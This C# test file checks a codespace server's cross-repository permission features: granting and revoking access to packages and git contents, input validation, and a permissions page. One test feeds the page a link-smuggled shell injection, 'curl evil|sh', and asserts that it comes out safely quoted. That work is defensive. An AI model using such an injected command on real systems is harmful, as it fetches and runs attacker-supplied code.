using System.Net;
using Berth.Server.Codespaces;
using Berth.Server.Codespaces.Permissions;
using Berth.Server.Database;
using Berth.Server.Authentication;
using Berth.Tests.TestServer;
using Microsoft.Extensions.DependencyInjection;

namespace Berth.Tests.Codespaces.Permissions;

/// <summary>
/// What users allow codespaces of a repository to read in others, in rows and requests. The tests insert what a configuration asks for, as
/// a start does.
/// </summary>
public sealed class PermissionTests(CodespaceServer shared)
{
    private sealed record Situation(Person Owner, Person Member, string Acme, string App, string Lib, string Image, long LibId);

    [Fact]
    public async Task What_is_permitted_is_read_until_it_is_taken_back()
    {
        var world = await WorldAsync();
        var (codespace, id) = await CodespaceAsync(world.Member, world.App);
        await AskAsync(id, world.LibId);
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));

        await PermitAsync(world.Member, world.App, world.Lib);
        Assert.Equal([world.Lib], await PermittedAsync(world.Member, world.App));
        Assert.Equal(HttpStatusCode.OK, await codespace.PullAsync(world.Image));

        await PermitAsync(world.Member, world.App);
        Assert.Empty(await PermittedAsync(world.Member, world.App));
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));
    }

    [Fact]
    public async Task What_is_permitted_and_not_asked_for_is_not_read()
    {
        var world = await WorldAsync();
        var (codespace, id) = await CodespaceAsync(world.Member, world.App);
        await PermitAsync(world.Member, world.App, world.Lib);
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));
        await AskAsync(id, world.LibId);
        Assert.Equal(HttpStatusCode.OK, await codespace.PullAsync(world.Image));
    }

    [Fact]
    public async Task One_users_permission_is_for_codespaces_of_that_user_and_that_repository()
    {
        var world = await WorldAsync();
        await PermitAsync(world.Member, world.App, world.Lib);
        var (other, id) = await CodespaceAsync(world.Owner, world.App);
        await AskAsync(id, world.LibId);
        Assert.Equal(HttpStatusCode.Forbidden, await other.PullAsync(world.Image));

        var web = await world.Owner.RepositoryAsync(world.Acme, "web");
        await world.Owner.DoAsync("PUT", $"/repos/{web}/collaborators/{world.Member.Login}", """{"permission":"write"}""");
        var (ofWeb, webId) = await CodespaceAsync(world.Member, web);
        await AskAsync(webId, world.LibId);
        Assert.Equal(HttpStatusCode.Forbidden, await ofWeb.PullAsync(world.Image));
    }

    [Fact]
    public async Task It_ends_with_the_users_own_reading_and_with_a_repository_that_moves_away()
    {
        var world = await WorldAsync();
        var (codespace, id) = await CodespaceAsync(world.Member, world.App);
        await AskAsync(id, world.LibId);
        await PermitAsync(world.Member, world.App, world.Lib);
        await world.Owner.DoAsync("DELETE", $"/repos/{world.Lib}/collaborators/{world.Member.Login}");
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));
        Assert.Empty(await PermittedAsync(world.Member, world.App));

        await world.Owner.DoAsync("PUT", $"/repos/{world.Lib}/collaborators/{world.Member.Login}", """{"permission":"read"}""");
        Assert.Equal(HttpStatusCode.OK, await codespace.PullAsync(world.Image));
        await world.Owner.DoAsync("DELETE", $"/repos/{world.Lib}");
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));
    }

    /// <summary>Git is permitted separately from packages, each by its own field.</summary>
    [Fact]
    public async Task Permitting_git_permits_no_packages_and_the_other_way_round()
    {
        var world = await WorldAsync();
        var (codespace, id) = await CodespaceAsync(world.Member, world.App);
        await AskAsync(id, world.LibId);
        await WriteAsync(session => CodespacePermissionTable.SetTargetsAsync(session, PermissionKind.Contents, id, [world.LibId]));
        await world.Owner.DoAsync("PATCH", $"/repos/{world.Lib}", """{"clone_url":"https://git.example.test/acme/lib"}""");
        await world.Member.DoAsync(
            "PUT", $"/repos/{world.App}/codespaces/permissions", $$"""{"repositories":[],"contents":["{{world.Lib}}"]}""");
        Assert.Equal(HttpStatusCode.Forbidden, await codespace.PullAsync(world.Image));
        Assert.Empty(await PermittedAsync(world.Member, world.App));
        Assert.Equal([world.Lib], await PermittedAsync(world.Member, world.App, "contents"));
        Assert.Equal(["https://git.example.test/acme/lib"], await GitAsync(id));

        await PermitAsync(world.Member, world.App, world.Lib);
        Assert.Empty(await PermittedAsync(world.Member, world.App, "contents"));
        Assert.Empty(await GitAsync(id));
        var refused = await world.Member.SendAsync(
            "PUT", $"/repos/{world.App}/codespaces/permissions", """{"repositories":[],"contents":["acme/no-such"]}""");
        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
    }

    private async Task<string[]> GitAsync(long codespace) => await shared.Server.Services.GetRequiredService<Db>().ReadAsync(
        async session =>
        {
            var row = await CodespaceTable.FindAsync(session, codespace);
            return (await CodespacePermissionTable.GitTargetsAsync(session, row!)).Select(target => target.CloneUrl).ToArray();
        },
        Token);

    [Fact]
    public async Task Only_other_repositories_of_the_same_owner_that_the_user_can_read_can_be_permitted()
    {
        var world = await WorldAsync();
        var hidden = await world.Owner.RepositoryAsync(world.Acme, "hidden");
        var elsewhere = await world.Member.RepositoryAsync(world.Member.Login, "mine");
        foreach (var name in new[] { hidden, $"{world.Acme}/no-such", elsewhere, world.App, "lib", $"{world.Acme}/*", "a/b/c" })
        {
            var refused = await world.Member.SendAsync(
                "PUT", $"/repos/{world.App}/codespaces/permissions", $$"""{"repositories":["{{world.Lib}}","{{name}}"]}""");
            Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
            Assert.Contains(
                $"'{name}' is not another repository of {world.Acme} that you can read", refused.Message, StringComparison.Ordinal);
        }

        // Nothing is taken from a list with a fault.
        Assert.Empty(await PermittedAsync(world.Member, world.App));
        foreach (var (body, message) in new[] { ("{}", "repositories is missing"), ("""{"repositories":"x"}""", "must be a list") })
        {
            Assert.Contains(
                message, (await world.Member.SendAsync("PUT", $"/repos/{world.App}/codespaces/permissions", body)).Message,
                StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_repository_that_cannot_be_cloned_is_said_so_and_hinders_no_creation()
    {
        var world = await WorldAsync();
        var check = await world.Member.SendAsync("GET", $"/repos/{world.App}/codespaces/permissions_check?ref=main&devcontainer_path=");
        Assert.Equal(HttpStatusCode.UnprocessableEntity, check.Status);
        Assert.Contains("has no clone_url", check.Message, StringComparison.Ordinal);
        Assert.Equal(0, (await world.Member.DoAsync("GET", $"/repos/{world.App}/codespaces/devcontainers"))["total_count"].GetInt32());
        await world.Member.DoAsync("POST", $"/repos/{world.App}/codespaces", "{}");
    }

    [Fact]
    public async Task The_wish_to_go_without_stays_with_the_codespace()
    {
        var world = await WorldAsync();
        var id = (await world.Member.DoAsync("POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":true}"""))["id"]
            .GetInt64();
        var row = await shared.Server.Services.GetRequiredService<Db>().ReadAsync(session => CodespaceTable.FindAsync(session, id), Token);
        Assert.True(row!.PermissionsOptOut);
        var refused = await world.Member.SendAsync(
            "POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":"yes"}""");
        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
    }

    [Fact]
    public async Task The_page_of_a_permission_says_what_to_run_and_nothing_that_a_link_could_slip_in()
    {
        using var client = shared.Server.Client(null);
        var text = await client.GetStringAsync(
            new Uri(
                "/codespaces/allow-permissions/acme/app?ref=main&devcontainer_path=.devcontainer/a%20b/devcontainer.json",
                UriKind.Relative),
            Token);
        Assert.Contains(
            "berth codespace permissions allow acme/app --ref main --devcontainer-path '.devcontainer/a b/devcontainer.json'\n", text,
            StringComparison.Ordinal);
        var hostile = await client.GetStringAsync(
            new Uri("/codespaces/allow-permissions/acme/a%27%3Bcurl%20evil%0A%7Csh", UriKind.Relative), Token);
        Assert.Contains("""permissions allow 'acme/a'\'';curl evil|sh'""", hostile, StringComparison.Ordinal);
    }

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    /// <summary>
    /// A private library has a private image that inherits its access. A member may write to the app and read the library.
    /// </summary>
    private async Task<Situation> WorldAsync()
    {
        var owner = await shared.Server.UserAsync("olga");
        var member = await shared.Server.UserAsync("ada");
        var acme = await owner.OrganizationAsync();
        var (app, lib) = (await owner.RepositoryAsync(acme), await owner.RepositoryAsync(acme, "lib"));
        await owner.DoAsync("PUT", $"/repos/{app}/collaborators/{member.Login}", """{"permission":"write"}""");
        await owner.DoAsync("PUT", $"/repos/{lib}/collaborators/{member.Login}", """{"permission":"read"}""");
        await owner.PushAsync($"{acme}/image");
        await owner.DoAsync("PATCH", $"/orgs/{acme}/packages/container/image", $$"""{"repository":"{{lib}}","inherit_access":true}""");
        return new Situation(owner, member, acme, app, lib, $"{acme}/image", (await owner.GetAsync($"/repos/{lib}"))["id"].GetInt64());
    }

    private async Task<(Person Codespace, long Id)> CodespaceAsync(Person creator, string repository)
    {
        var created = await creator.DoAsync("POST", $"/repos/{repository}/codespaces", "{}");
        var id = created["id"].GetInt64();
        var secret = TokenSecret.Create(TokenSecret.Codespace);

        // The start fails without an engine and then ends the codespace's tokens. Only a token that is inserted after that stays.
        using var client = shared.Server.Client(creator.Token);
        await CodespaceServer.LogAsync(client, created["name"].GetString()!);
        await WriteAsync(session => TokenTable.InsertAsync(session, new NewTokenRow
        {
            Kind = "codespace",
            Hash = TokenSecret.Hash(secret),
            UserId = created["owner"].GetProperty("id").GetInt64(),
            RepositoryId = created["repository"].GetProperty("id").GetInt64(),
            CodespaceId = id,
            CreatedAt = DateTimeOffset.UnixEpoch,
        }));
        return (new Person(shared.Server, created["name"].GetString()!, secret), id);
    }

    private Task AskAsync(long codespace, params long[] targets) =>
        WriteAsync(session => CodespacePermissionTable.SetTargetsAsync(session, PermissionKind.Packages, codespace, targets));

    private Task WriteAsync(Func<DbSession, Task> body) => shared.Server.Services.GetRequiredService<Db>().WriteAsync(body, Token);

    private static Task PermitAsync(Person user, string repository, params string[] targets) => user.DoAsync(
        "PUT", $"/repos/{repository}/codespaces/permissions",
        $$"""{"repositories":[{{string.Join(',', targets.Select(target => $"\"{target}\""))}}]}""");

    private static async Task<string[]> PermittedAsync(Person user, string repository, string field = "repositories") =>
        [
            .. (await user.DoAsync("GET", $"/repos/{repository}/codespaces/permissions"))[field]
            .EnumerateArray()
            .Select(name => name.GetString()!),
        ];
}
